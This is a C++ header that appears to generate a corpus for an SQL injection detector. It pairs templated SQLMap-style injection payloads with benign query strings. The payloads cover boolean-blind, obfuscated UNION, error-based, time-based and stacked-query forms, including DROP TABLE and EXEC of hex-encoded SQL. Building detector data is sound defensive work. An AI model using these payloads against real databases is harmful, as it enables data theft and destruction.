#pragma once

// Built-in corpus grammar. data/templates/*.txt hold the same text; a test
// keeps them in sync.

#include <string_view>

namespace sqlion::templates {

// SQLMap-style payload families: boolean-blind, UNION-based (with comment,
// case and hex obfuscation), error-based, stacked queries and time-based.
inline constexpr std::string_view malicious = R"SQLION(id={num}{sp}AND{sp}{num}={num}
id={num}{sp}OR{sp}{num}={num}
id={num}{sp}AND{sp}{num}={num}--{sp}{word}
id={num}'{sp}AND{sp}'{word}'='{word}
id={num}'{sp}OR{sp}'{num}'='{num}
id={num}){sp}AND{sp}({num}={num}
id={num}'){sp}AND{sp}('{word}'='{word}
id={num}"{sp}AND{sp}"{word}"="{word}
id={num}'{sp}AND{sp}{num}={num}#
id=-{num}{sp}OR{sp}{num}={num}
id={num}{sp}AND{sp}{num}={num}{sp}AND{sp}'{word}'='{word}
id={num}{sp}RLIKE{sp}(SELECT{sp}(CASE{sp}WHEN{sp}({num}={num}){sp}THEN{sp}{num}{sp}ELSE{sp}0x28{sp}END))
id={num}{sp}AND{sp}ORD(MID((SELECT{sp}IFNULL(CAST({word}{sp}AS{sp}CHAR),0x20){sp}FROM{sp}{word}{sp}LIMIT{sp}{num},1),{num},1))>{num}
id=-{num}{sp}UNION{sp}ALL{sp}SELECT{sp}NULL,NULL,NULL--{sp}-
id={num}{sp}UNION{sp}SELECT{sp}{word},{word}{sp}FROM{sp}{word}--
id={num}'{sp}UNION{sp}ALL{sp}SELECT{sp}CONCAT({hex},{hex}),NULL--{sp}-
id=-{num}/**/uNiOn/**/all/**/sElEcT/**/{num},{num}--
id=-{num}{sp}uNiOn/**/all{sp}\x0{num}
id={num}{sp}UNION{sp}SELECT{sp}table_name{sp}FROM{sp}information_schema.tables--
id={num}{sp}UNION{sp}ALL{sp}SELECT{sp}{hex},{num},{num}#
id={num}'{sp}UNION{sp}SELECT{sp}{word},{word}{sp}FROM{sp}{word}{sp}WHERE{sp}{word}='{word}'--
id={num}{sp}ORDER{sp}BY{sp}{num}--
id={num}'{sp}ORDER{sp}BY{sp}{num}#
id={num}{sp}AND{sp}EXTRACTVALUE({num},CONCAT(0x5c,{hex},(SELECT{sp}(ELT({num}={num},1))),{hex}))
id={num}{sp}AND{sp}(SELECT{sp}{num}{sp}FROM(SELECT{sp}COUNT(*),CONCAT({hex},(SELECT{sp}(ELT({num}={num},1))),{hex},FLOOR(RAND(0)*2))x{sp}FROM{sp}INFORMATION_SCHEMA.PLUGINS{sp}GROUP{sp}BY{sp}x)a)
id={num}{sp}AND{sp}UPDATEXML({num},CONCAT(0x2e,{hex}),{num})
id={num}{sp}AND{sp}{num}=CONVERT(INT,(SELECT{sp}CHAR({num})+CHAR({num})))
id={num}{sp}AND{sp}{num}=CAST((CHR({num})||CHR({num}))::text{sp}AS{sp}NUMERIC)
id={num};SELECT{sp}SLEEP({num})#
id={num}';DROP{sp}TABLE{sp}{word}--
id={num};DECLARE{sp}@{word}{sp}CHAR({num});SET{sp}@{word}={hex};EXEC(@{word})--
id={num}';INSERT{sp}INTO{sp}{word}{sp}VALUES('{word}','{word}')--
id={num}{sp}AND{sp}SLEEP({num})
id={num}'{sp}AND{sp}(SELECT{sp}{num}{sp}FROM{sp}(SELECT(SLEEP({num})))a)--{sp}{word}
id={num};WAITFOR{sp}DELAY{sp}'0:0:{num}'--
id={num}{sp}AND{sp}{num}=BENCHMARK({num},MD5({hex}))
id={num}{sp}AND{sp}{num}=(SELECT{sp}{num}{sp}FROM{sp}PG_SLEEP({num}))
id={num}'"(),.()"'
id={num}{sp}AND{sp}{num}={num}{sp}UNION{sp}ALL{sp}SELECT{sp}NULL--
'{sp}or{sp}{num}{sp}={sp}{num}--
{word}'--
'{sp}OR{sp}'{num}'='{num}
"{sp}or{sp}""="
{word}'{sp}AND{sp}{num}={num}#
)SQLION";

// Benign query text: search terms, pagination, ids, slugs and form values.
inline constexpr std::string_view legitimate = R"SQLION({word}
{word}{sp}{word}
{word}{sp}{word}{sp}{word}
{word}+{word}+{num}
{word}{sp}{num}
{num}
{num},{num}
{word},{word}
page/{num}
{word}/{num}
{word}/{word}/{num}
topic/{word}/page/{num}
{word}.html
{word}-{num}.html
{word}/{num}.jpg
{num}-{num}-{num}
{word}@{word}.com
{word}_{word}_{num}
{word}{sp}from{sp}{word}
{word}{sp}like{sp}{word}
{word}{sp}{word}{sp}{num}
)SQLION";

} // namespace sqlion::templates
